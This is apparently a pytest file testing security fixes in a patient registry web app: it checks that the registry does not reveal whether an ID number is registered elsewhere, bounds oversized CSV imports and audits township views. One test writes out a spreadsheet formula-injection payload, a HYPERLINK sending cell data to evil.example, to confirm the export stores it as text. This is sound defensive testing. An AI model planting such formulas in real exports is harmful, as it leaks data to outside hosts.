"""Issue 22 finding 1: the registry is no oracle of who is on it. A doctor who registers (or
imports) an ID number registered outside the doctor's area gets exactly the answer of a new
patient; the registration is kept as a transfer request to the area holding the record and
audited for review (SQLite and PostgreSQL)."""

from __future__ import annotations

import io

import openpyxl
import sqlalchemy as sa

from shidian.platform.db.registry_schema import registry_patients, registry_transfers
from shidian.platform.db.schema import audit_events
from tests.web.registry.conftest import V1, V3, id_number
from tests.web.registry.test_registry_api import register


def shape(response):
    """Everything a caller can read of a registration's answer but the fresh registry number."""
    body = response.json()
    return response.status_code, sorted(body), len(body["registry_no"]), body["registry_no"][0]


def test_a_duplicate_outside_the_area_answers_as_a_new_patient_and_is_logged(reg_client, registry_app):
    doc_a, doc_b = reg_client("reg_doc_a"), reg_client("reg_doc_b")
    held, _ = register(doc_b, village=V3)  # 南村, outside doc_a's 东村
    held_no = held.json()["registry_no"]
    number = _["id_number"]

    fresh, _ = register(doc_a)  # an ID number nobody registered
    probe, _ = register(doc_a, number=number)  # the attack: someone registered elsewhere
    assert probe.status_code == 201, probe.text
    assert shape(probe) == shape(fresh)
    # asked again, the doctor gets what a doctor re-registering their own patient gets
    again_fresh, _ = register(doc_a, number=_id_of(registry_app, fresh.json()["registry_no"], doc_a))
    again_probe, _ = register(doc_a, number=number)
    assert (again_probe.status_code, again_probe.json()) == (again_fresh.status_code, again_fresh.json())
    assert [p["code"] for p in again_probe.json()["problems"]] == ["registry.patient.duplicate"]

    with registry_app.state.engine.connect() as conn:
        transfer = conn.execute(
            sa.select(registry_transfers).where(registry_transfers.c.id_hmac == held_row_hmac(conn, held_no))
        ).one()
        held_row = conn.execute(
            sa.select(registry_patients).where(registry_patients.c.registry_no == held_no)
        ).one()
        events = conn.execute(
            sa.select(audit_events.c.target, audit_events.c.detail).where(
                audit_events.c.action == "registry.transfer_requested", audit_events.c.target == held_no
            )
        ).all()
    assert transfer.patient_id == held_row.id and transfer.registry_no == probe.json()["registry_no"]
    assert held_row.village_id != transfer.village_id  # the record stays where it is, untouched
    assert [(t, d["registry_no"], d["village"]) for t, d in events] == [
        (held_no, probe.json()["registry_no"], V1)
    ]
    # the doctor holding the record still gets the duplicate named
    own, _ = register(doc_b, village=V3, number=number)
    assert [p["code"] for p in own.json()["problems"]] == ["registry.patient.duplicate"]


def held_row_hmac(conn, registry_no):
    p = registry_patients
    return conn.execute(sa.select(p.c.id_hmac).where(p.c.registry_no == registry_no)).scalar_one()


def _id_of(app, registry_no, client):
    detail = client.get(f"/api/registry/patients/{registry_no}").json()
    return detail["patient"]["id_number"]


def test_the_import_answers_a_duplicate_outside_the_area_as_a_new_patient(reg_client, registry_app):
    doc_a, doc_b = reg_client("reg_doc_a"), reg_client("reg_doc_b")
    held_response, held = register(doc_b, village=V3)
    new = id_number()
    header = "姓名,身份证号,村代码,诊断编码,登记日期\n"
    answers = []
    for number in (new, held["id_number"]):
        text = header + f"周一,{number},{V1},F20,2019-03-01\n"
        response = doc_a.post(
            "/api/registry/imports", files={"file": ("名册.csv", text.encode("utf-8"), "text/csv")}
        )
        answers.append((response.status_code, response.json()))
    assert answers[0] == answers[1] == (200, {"ok": True, "imported": 1, "problems": []})
    with registry_app.state.engine.connect() as conn:
        held_no = held_response.json()["registry_no"]
        targets = conn.execute(
            sa.select(audit_events.c.target).where(audit_events.c.action == "registry.transfer_requested")
        ).scalars()
        assert held_no in set(targets)
        transfers = conn.execute(
            sa.select(sa.func.count())
            .select_from(registry_transfers)
            .where(registry_transfers.c.id_hmac == held_row_hmac(conn, held_no))
        ).scalar_one()
    assert transfers == 1


def test_a_formula_typed_as_a_name_or_address_is_text_in_the_registry_export(reg_client):
    """Issue 22 finding 5: the export writes names and addresses as text cells, never formulas."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    doc = reg_client("reg_doc_a")
    response, _ = register(doc, name=formula, address="@SUM(1+1)")
    assert response.status_code == 201, response.text
    export = reg_client("reg_office").get("/registry/export.xlsx")
    assert export.status_code == 200
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(export.content)).active.iter_rows() for c in row]
    assert formula in [c.value for c in cells]
    assert {c.data_type for c in cells if isinstance(c.value, str) and c.value[:1] in "=@+-"} == {"s"}


def test_an_import_with_20000_columns_is_refused_at_once(reg_client):
    """Issue 22 finding 8: a wide header pinned a core for minutes; now a 422 naming the bound."""
    import time

    header = ",".join(f"列{i}" for i in range(20_000))
    started = time.monotonic()
    response = reg_client("reg_doc_a").post(
        "/api/registry/imports", files={"file": ("wide.csv", (header + "\n").encode(), "text/csv")}
    )
    assert response.status_code == 422
    assert [p["code"] for p in response.json()["problems"]] == ["table.file.too_many_columns"]
    assert time.monotonic() - started < 30


def test_an_import_with_only_a_header_row_is_refused(reg_client):
    """Issue 22 finding 9: a file with no patient answered "imported 0"."""
    header = "姓名,身份证号,村代码,诊断编码,登记日期\n"
    response = reg_client("reg_doc_a").post(
        "/api/registry/imports", files={"file": ("empty.csv", header.encode(), "text/csv")}
    )
    assert response.status_code == 422
    assert [p["code"] for p in response.json()["problems"]] == ["registry.import.no_rows"]


def test_an_import_with_an_over_long_name_or_address_names_the_cell(reg_client):
    """Issue 22 finding 8: a name or address longer than its field answered 500."""
    text = (
        "姓名,身份证号,村代码,诊断编码,登记日期,现住址\n"
        f"{'名' * 65},{id_number()},{V1},F20,2019-03-01,\n"
        f"周一,{id_number()},{V1},F20,2019-03-01,{'址' * 201}\n"
    )
    response = reg_client("reg_doc_a").post(
        "/api/registry/imports", files={"file": ("long.csv", text.encode(), "text/csv")}
    )
    assert response.status_code == 422, response.text
    where = {(p["code"], p["where"]["row"], p["where"]["column"]) for p in response.json()["problems"]}
    assert where == {
        ("registry.import.invalid_cell", 2, "姓名"),
        ("registry.import.invalid_cell", 3, "现住址"),
    }


def test_the_warnings_counts_are_audited(reg_client, registry_app):
    """Issue 22 finding 9: the township warnings (patients by village) were read unaudited."""
    town = reg_client("reg_town")
    for path in ("/registry/warnings", "/api/registry/warnings"):
        with registry_app.state.engine.connect() as conn:
            before = conn.execute(
                sa.select(sa.func.count())
                .select_from(audit_events)
                .where(
                    audit_events.c.action == "registry.warnings_viewed", audit_events.c.username == "reg_town"
                )
            ).scalar_one()
        assert town.get(path).status_code == 200
        with registry_app.state.engine.connect() as conn:
            after = conn.execute(
                sa.select(sa.func.count())
                .select_from(audit_events)
                .where(
                    audit_events.c.action == "registry.warnings_viewed", audit_events.c.username == "reg_town"
                )
            ).scalar_one()
        assert after == before + 1
